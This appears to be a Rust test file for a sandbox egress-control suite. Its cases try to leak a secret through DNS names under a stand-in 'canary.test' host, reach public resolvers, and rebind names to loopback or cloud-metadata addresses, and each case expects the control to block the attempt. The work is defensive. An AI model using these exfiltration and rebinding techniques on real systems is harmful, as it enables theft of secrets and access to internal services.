//! Secrets in questions about names, and names that change what they lead to.

use ralph_engine::audit::AuditReader;

use super::super::arena::{EgressArena, ample_ledger};
use super::super::case::EgressControl::{Host, Other, Same, Says};
use super::super::case::{EgressCase, case_verdict, require_control};
use super::super::policies::PolicyPreset::{Denying, Listing, Open, Strict};
use crate::report::AttackVerdict;

const SECRET: &str = "mfzwk43u-nfzsa5dimu";
const DATAGRAM: &[&str] = &["udp:{udp}", "say:hello", "hear"];
const STREAM: &[&str] = &["tcp:{plain}", "say:hello", "hear"];
const LOOKUP: &[&str] = &["lookup:mfzwk43u.canary.test"];
const OWN_UDP: &[&str] = &["udp:8.8.8.8:53", "ask:1:allowed.test"];
const OWN_TCP: &[&str] = &["tcp:8.8.8.8:53", "ask:1:allowed.test"];
const GIVEN: &str = "code 0 answers 1 synthetic";

pub(super) const CASES: &[EgressCase] = &[
    EgressCase::blocked(
        "DN-01.lookup",
        "a secret in a name that is looked up",
        LOOKUP,
        "failed at lookup",
        Says(Open, LOOKUP, "address 198.18."),
    ),
    EgressCase::blocked(
        "DN-01.denied",
        "the same, below a denied name",
        LOOKUP,
        "failed at lookup",
        Says(Open, LOOKUP, "address 198.18."),
    )
    .under(Denying),
    EgressCase::blocked(
        "DN-02.connect",
        "a secret in a name, by `CONNECT`",
        &["connect:mfzwk43u.canary.test:443", "tls:mfzwk43u.canary.test", "say:hello", "hear"],
        "HTTP/1.1 403",
        Same(Open),
    ),
    EgressCase::blocked(
        "DN-02.absolute",
        "the same in an absolute address",
        &["door", r"say:GET http://mfzwk43u.canary.test/ HTTP/1.1\r\nHost: mfzwk43u.canary.test\r\n\r\n", "hear"],
        "HTTP/1.1 403",
        Same(Open),
    ),
    EgressCase::blocked(
        "DN-02.socks",
        "the same by SOCKS",
        &["socks:mfzwk43u.canary.test:443", "tls:mfzwk43u.canary.test", "say:hello", "hear"],
        "socks 2",
        Same(Open),
    ),
    EgressCase::blocked(
        "DN-02.named",
        "the same, as if there were no proxy",
        &["name:mfzwk43u.canary.test:443", "tls:mfzwk43u.canary.test", "say:hello", "hear"],
        "failed at name",
        Same(Open),
    ),
    EgressCase::blocked(
        "DN-02.port",
        "an allowed name with a secret in front of it",
        &["connect:mfzwk43u.allowed.test:443", "tls:mfzwk43u.allowed.test", "say:hello", "hear"],
        "HTTP/1.1 403",
        Same(Open),
    ),
    EgressCase::blocked(
        "DN-03.udp-door",
        "a name server of the world",
        &["udp:8.8.8.8:53", "ask:1:x.canary.test"],
        "code 3 answers 0",
        Says(Strict, OWN_UDP, GIVEN),
    ),
    EgressCase::blocked(
        "DN-03.tcp-door",
        "the same over TCP",
        &["tcp:8.8.8.8:53", "ask:1:x.canary.test"],
        "code 3 answers 0",
        Says(Strict, OWN_TCP, GIVEN),
    ),
    EgressCase::blocked(
        "DN-03.tls-door",
        "the same over TLS",
        &["tcp:1.1.1.1:853", "hear"],
        "failed at tcp",
        Host(STREAM),
    ),
    EgressCase::blocked(
        "DN-03.socks",
        "the same by SOCKS",
        &["socksip:8.8.8.8:53", "ask:1:x.canary.test"],
        "socks 2",
        Other(Open, &["socksip:8.8.8.8:53", "say:hello", "hear"]),
    ),
    EgressCase::blocked(
        "DN-03.connect",
        "the same by `CONNECT`",
        &["connect:dns.google:53", "ask:1:x.canary.test"],
        "HTTP/1.1 403",
        Other(Open, &["connect:dns.google:53", "say:hello", "hear"]),
    ),
    EgressCase::blocked(
        "DN-04.connect",
        "a name server behind HTTPS",
        &["connect:cloudflare-dns.com:443", "tls:cloudflare-dns.com", "say:hello", "hear"],
        "HTTP/1.1 403",
        Same(Open),
    ),
    EgressCase::blocked(
        "DN-04.socks",
        "the same by its address",
        &["socksip:1.1.1.1:443", "tls:-", "say:hello", "hear"],
        "socks 2",
        Same(Open),
    ),
    EgressCase::custom("DN-05.question", "a secret below a wildcard, only asked for", |ground| {
        Box::pin(lookup_stays_inside(ground))
    }),
    EgressCase::custom("DN-05.audit", "a secret below a wildcard, in the book", |ground| {
        Box::pin(wildcard_is_audited(ground))
    }),
    EgressCase::custom("DN-06.loopback", "a name that turns to the loopback", |g| Box::pin(rebind(g, &["127.0.0.1"]))),
    EgressCase::custom("DN-06.loopback6", "a name that turns to the loopback over IPv6", |g| {
        Box::pin(rebind(g, &["::1"]))
    }),
    EgressCase::custom("DN-06.metadata", "a name that turns to the cloud's metadata", |g| {
        Box::pin(rebind(g, &["169.254.169.254"]))
    }),
    EgressCase::custom("DN-06.private", "a name that turns to a private address", |g| {
        Box::pin(rebind(g, &["10.0.0.5"]))
    }),
    EgressCase::custom("DN-06.mapped", "a name that turns to a mapped address", |g| {
        Box::pin(rebind(g, &["::ffff:169.254.169.254"]))
    }),
    EgressCase::custom("DN-06.nat64", "a name that turns to the metadata behind NAT64", |g| {
        Box::pin(rebind(g, &["64:ff9b::a9fe:a9fe"]))
    }),
    EgressCase::custom("DN-06.mixed", "a name that is both outside and inside", |g| {
        Box::pin(rebind(g, &["93.184.215.14", "127.0.0.1"]))
    }),
    EgressCase::custom("DN-06.own", "a name that turns to a synthetic address", |g| {
        Box::pin(rebind(g, &["198.18.1.0"]))
    }),
    EgressCase::custom("DN-06.once", "a name that changes between judgement and dial", |g| Box::pin(resolved_once(g))),
    EgressCase::custom("DN-06.requests", "a name that changes between two requests", |g| {
        Box::pin(rebind_between_requests(g))
    }),
    EgressCase::blocked(
        "DN-10.mdns",
        "asking everybody for a name",
        &["udp:224.0.0.251:5353", "ask:1:printer.local"],
        "failed at",
        Host(DATAGRAM),
    ),
    EgressCase::blocked(
        "DN-10.llmnr",
        "asking everybody for a name, as another system does",
        &["udp:224.0.0.252:5355", "ask:1:printer"],
        "failed at",
        Host(DATAGRAM),
    ),
    EgressCase::custom("DN-12.connect", "an address whose name is no longer allowed", |g| Box::pin(stale(g))),
    EgressCase::custom("DN-12.cut", "a connection whose name is no longer allowed", |g| Box::pin(cut(g))),
];

/// A mere question leads to no question outside.
async fn lookup_stays_inside(ground: &EgressArena) -> Result<AttackVerdict, AttackVerdict> {
    let cage = ground.shared_cage(Strict).await?;
    let name = format!("{SECRET}.wild.test");
    let (told, happened) = ground.run_attack(&cage, &[format!("lookup:{name}")]).await?;
    require_control(&told, told.contains("address 198.18."))?;
    let words = [format!("connect:{name}:443"), format!("tls:{name}"), "say:hello".to_owned(), "hear".to_owned()];
    let (told, reached) = ground.run_attack(&cage, &words).await?;
    require_control(&told, reached.queries == [name])?;
    case_verdict(!happened.is_empty(), happened.summary())
}

/// Whatever a wildcard lets out stands in the book with its whole name.
async fn wildcard_is_audited(ground: &EgressArena) -> Result<AttackVerdict, AttackVerdict> {
    let cage = ground.new_audited_cage(Strict).await?;
    let name = format!("{SECRET}.wild.test");
    let before = audited_hosts(ground)?.iter().filter(|host| **host == name).count();
    let words = [format!("name:{name}:443"), format!("tls:{name}"), "say:hello".to_owned(), "hear".to_owned()];
    let (told, happened) = ground.run_attack(&cage, &words).await?;
    let _ = cage.sandbox.destroy().await;
    require_control(&told, happened.queries.contains(&name))?;
    let after = audited_hosts(ground)?.iter().filter(|host| **host == name).count();
    // The question and the connection.
    case_verdict(after < before + 2, format!("{name} stands in the book {after} times"))
}

/// Returns the host of every record in the book.
fn audited_hosts(ground: &EgressArena) -> Result<Vec<String>, AttackVerdict> {
    let mut reader = AuditReader::new(&ground.run_folder());
    let mut hosts = Vec::new();
    while let Some(entry) = reader.next().map_err(super::super::arena::suite_error)? {
        hosts.extend(entry.record.map(|record| record.host.unwrap_or_default()));
    }
    Ok(hosts)
}

fn access_scripts(host: &str) -> [Vec<String>; 3] {
    ["connect", "socks", "name"].map(|way| {
        let get = format!(r"say:GET / HTTP/1.1\r\nHost: {host}\r\n\r\n");
        vec![format!("{way}:{host}:443"), format!("tls:{host}"), get, "hear".to_owned()]
    })
}

/// A listed name is public at first, and then is not.
async fn rebind(ground: &EgressArena, inside: &[&str]) -> Result<AttackVerdict, AttackVerdict> {
    let cage = ground.shared_cage(Strict).await?;
    for (host, words) in
        [("rebind.test", access_scripts("rebind.test")), ("rebind-api.test", access_scripts("rebind-api.test"))]
    {
        let [first, ..] = &words;
        ground.world.set_dns_answers(host, &[&["93.184.215.14"], inside]);
        let (told, happened) = ground.run_attack(&cage, first).await?;
        require_control(&told, !happened.messages.is_empty())?;
        for words in &words {
            let (told, happened) = ground.run_attack(&cage, words).await?;
            if !happened.dials.is_empty() {
                return case_verdict(true, format!("{words:?}: {} and was told {told}", happened.summary()));
            }
            require_control(&told, happened.queries.len() == 1)?;
        }
    }
    case_verdict(false, "")
}

/// What is dialled is what was judged: a name is asked for once, however often it would change.
async fn resolved_once(ground: &EgressArena) -> Result<AttackVerdict, AttackVerdict> {
    let cage = ground.shared_cage(Strict).await?;
    for host in ["rebind.test", "rebind-api.test"] {
        for words in access_scripts(host) {
            ground.world.set_dns_answers(host, &[&["93.184.215.14"], &["127.0.0.1"]]);
            let (told, happened) = ground.run_attack(&cage, &words).await?;
            require_control(&told, !happened.messages.is_empty())?;
            let inside = happened.dials.iter().any(|dialled| dialled.ip().is_loopback());
            if inside || happened.queries.len() != 1 || happened.dials.len() != 1 {
                return case_verdict(true, happened.summary());
            }
        }
    }
    case_verdict(false, "")
}

/// A connection that stays open stays where it is.
async fn rebind_between_requests(ground: &EgressArena) -> Result<AttackVerdict, AttackVerdict> {
    let cage = ground.shared_cage(Strict).await?;
    let host = "rebind-api.test";
    ground.world.set_dns_answers(host, &[&["93.184.215.14"], &["169.254.169.254"]]);
    let get = |path: &str| format!(r"say:GET /{path} HTTP/1.1\r\nHost: {host}\r\n\r\n");
    let words =
        [format!("connect:{host}:443"), format!("tls:{host}"), get("one"), "hear".into(), get("two"), "hear".into()];
    let (told, happened) = ground.run_attack(&cage, &words).await?;
    require_control(&told, happened.received("GET /one"))?;
    case_verdict(happened.dials.len() != 1, happened.summary())
}

/// Returns the address that a lookup was answered by.
fn address(told: &str) -> String {
    told.lines().find_map(|line| line.strip_prefix("address ")).unwrap_or("").to_owned()
}

async fn stale(ground: &EgressArena) -> Result<AttackVerdict, AttackVerdict> {
    let cage = ground.new_cage(Strict, ample_ledger()).await?;
    let old = address(&ground.run_client(&cage, &["lookup:allowed.test"]).await?);
    let words = [format!("tcp:{old}:443"), "tls:allowed.test".to_owned(), "say:hello".to_owned(), "hear".to_owned()];
    let (told, reached) = ground.run_attack(&cage, &words).await?;
    require_control(&told, !reached.messages.is_empty())?;
    cage.with_egress(|pass| Listing("other.test").policy().map(|policy| pass.set_policy(policy)));
    let (told, happened) = ground.run_attack(&cage, &words).await?;
    // Another name must not get the old one's address either.
    let other = address(&ground.run_client(&cage, &["lookup:other.test"]).await?);
    cage.with_egress(|pass| Strict.policy().map(|policy| pass.set_policy(policy)));
    let (again, returned) = ground.run_attack(&cage, &words).await?;
    let _ = cage.sandbox.destroy().await;
    require_control(&other, other.starts_with("198.18."))?;
    let bad = !happened.is_empty() || !returned.is_empty() || other == old;
    case_verdict(bad, format!("{} and was told {told} {again}, {old} {other}", happened.summary()))
}

/// A connection in use is cut when the policy changes its mind.
async fn cut(ground: &EgressArena) -> Result<AttackVerdict, AttackVerdict> {
    let cage = ground.new_cage(Strict, ample_ledger()).await?;
    let get = |path: &str| format!(r"say:GET /{path} HTTP/1.1\r\nHost: allowed.test\r\n\r\n");
    let first = ["connect:allowed.test:443".to_owned(), "tls:allowed.test".to_owned(), get("one"), "hear".to_owned()];
    let then = [get("two"), "hear".to_owned()];
    let (kept, before) = ground.run_interrupted(&cage, &first, &then, async || ()).await?;
    let change = async || {
        cage.with_egress(|pass| Listing("other.test").policy().map(|policy| pass.set_policy(policy)));
    };
    let (told, after) = ground.run_interrupted(&cage, &first, &then, change).await?;
    let _ = cage.sandbox.destroy().await;
    require_control(kept, before.received("GET /two"))?;
    require_control(&told, after.received("GET /one"))?;
    case_verdict(after.received("GET /two"), told)
}
